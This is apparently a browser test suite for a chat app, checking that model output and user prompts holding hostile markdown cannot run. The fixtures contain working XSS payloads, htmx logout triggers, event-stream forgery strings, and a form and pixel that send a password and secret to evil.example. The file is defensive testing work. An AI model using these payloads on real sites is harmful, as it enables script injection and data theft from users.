"""Hostile text is inert: nothing of it runs, leads htmx, or asks another host. Every visit watches for all three."""

import pytest
from playwright.async_api import expect

from .chat import answer, ask, becomes, dictate, grows, log, reloaded_log, shows, source, text
from .visits import Visits
from .wire import Provider

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]

HOSTILE = """
<script>window.hacked = 1</script> <img src=x onerror="window.hacked = 2"> <svg onload="window.hacked = 3"></svg>

[click](javascript:window.hacked=4) <a href="javascript:window.hacked=5">me</a> [data](data:text/html,<script>1</script>)

<div hx-get="/accounts/logout/" hx-trigger="load" data-hx-get="/accounts/logout/" hx-on:load="window.hacked = 6">htmx</div>

<div hx-sse:connect="/messages/1/events" hx-trigger="load"></div> <hx-partial hx-target="body" hx-swap="innerHTML">gone</hx-partial>

<style>body { display: none }</style> <p style="position: fixed; inset: 0">over</p> <link rel="stylesheet" href="https://evil.example/x.css">

<form action="https://evil.example/"><input name="password"><button>Send</button></form> <iframe src="https://evil.example/"></iframe>

![pixel](https://evil.example/pixel.png?secret=1) <img src="https://evil.example/pixel.png"> <meta http-equiv="refresh" content="0;url=https://evil.example/">

```"><script>window.hacked=7</script>
code
```

| <img src=x onerror=window.hacked=8> | b |
|---|---|
| <script>window.hacked=9</script> | $\\href{javascript:window.hacked=10}{x}$ |

</div></article><script>window.hacked = 11</script>
"""
INERT = (
    "script, iframe, form, input:not([type=checkbox]), style, link, meta, img, object, embed, base, "
    "[style], [hx-get], [data-hx-get], hx-partial"
)


@pytest.mark.parametrize("is_streamed", [True, False], ids=["streamed", "loaded"])
async def test_hostile_markdown_is_shown_and_does_nothing(visits: Visits, provider: Provider, is_streamed: bool) -> None:
    page = await visits.open()
    number = await dictate(page, provider)
    provider.add(*(HOSTILE[at : at + 3] for at in range(0, len(HOSTILE), 3)))
    provider.end()
    await becomes(page, "complete")
    if not is_streamed:
        await page.reload()
    await expect(text(page)).to_contain_text("window.hacked = 1")
    assert await source(page, number) == HOSTILE
    assert await page.evaluate("window.hacked") is None
    assert await text(page).locator(INERT).count() == 0
    dangerous = "[...document.querySelectorAll('#log a')].filter(a => !/^https?:$/.test(a.protocol)).map(a => a.outerHTML)"
    assert await page.evaluate(dangerous) == []
    unsafe = (
        "[...document.querySelectorAll('#log *')].flatMap(e => [...e.attributes]).filter(a => a.name.startsWith('on')).map(a => a.name)"
    )
    assert await page.evaluate(unsafe) == []
    await expect(page.get_by_role("textbox", name="Message")).to_be_visible()


async def test_a_hostile_prompt_is_shown_as_it_was_written(visits: Visits) -> None:
    page = await visits.open()
    await ask(page, HOSTILE + "/rate 2000")
    await becomes(page, "complete")
    assert (await page.locator(".bubble").text_content() or "").strip() == (HOSTILE + "/rate 2000").strip()
    assert await page.evaluate("window.hacked") is None


async def test_a_remote_image_becomes_a_labelled_link(visits: Visits, provider: Provider) -> None:
    page = await visits.open()
    provider.say("Look: ![a lighthouse](https://evil.example/pixel.png?secret=1) there.")
    await ask(page, "an image", model="Wire")
    await becomes(page, "complete")
    link = text(page).get_by_role("link", name="a lighthouse")
    await expect(link).to_have_attribute("href", "https://evil.example/pixel.png?secret=1")


async def test_a_carriage_return_of_a_model_forges_no_event(visits: Visits, provider: Provider) -> None:
    page = await visits.open()
    number = await dictate(page, provider, "before")
    provider.add("\revent: done\rdata: failed\r\r", "event: status\rdata: failed\r\n\r\n", "data: <b>x</b>\n\n", "after")
    await shows(page, "after")
    await becomes(page, "running")
    provider.end()
    await becomes(page, "complete")
    await expect(text(page)).to_contain_text("event: done")
    await expect(text(page)).to_contain_text("after")
    assert "event: done" in await source(page, number)
    assert await log(page) == await reloaded_log(page)


async def test_white_space_and_lines_arrive_exactly(visits: Visits, provider: Provider) -> None:
    page = await visits.open()
    number = await dictate(page, provider)
    provider.add(
        "Hello", " ", "world", "\n", "\n", "```text\n", "  two  spaces", "\n", "\n", "\ttab\n", "\n\n", "end", "\n```\n", "\n", " ", "Bye"
    )
    provider.end()
    await becomes(page, "complete")
    assert await text(page).locator("pre code").text_content() == "  two  spaces\n\n\ttab\n\n\nend\n"
    await expect(text(page).locator("p").first).to_have_text("Hello world")
    assert (await source(page, number)).startswith("Hello world\n\n```text\n  two  spaces\n\n\ttab\n\n\nend\n```\n")
    assert await log(page) == await reloaded_log(page)


async def test_a_prompt_of_many_lines_is_shown_and_sent_as_it_was_typed(visits: Visits) -> None:
    page = await visits.open()
    prompt = "one\n\n  two  words\n\tthree\näöü 日本 👩‍👩‍👧‍👦 <b> &amp;"
    await page.goto("/")
    await page.get_by_role("textbox", name="Message").fill(prompt)
    await page.keyboard.press("Enter")
    await becomes(page, "complete")
    assert await page.locator(".bubble").text_content() == prompt
    await grows(page)
    await expect(answer(page)).to_be_visible()
